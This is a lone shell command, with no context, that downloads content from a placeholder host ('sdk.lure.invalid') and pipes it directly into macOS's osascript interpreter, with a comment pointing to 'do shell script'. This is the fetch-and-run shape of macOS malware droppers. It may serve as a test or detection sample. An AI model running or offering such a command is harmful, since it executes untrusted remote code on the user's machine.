curl -fsS https://sdk.lure.invalid/x | osascript # do shell script
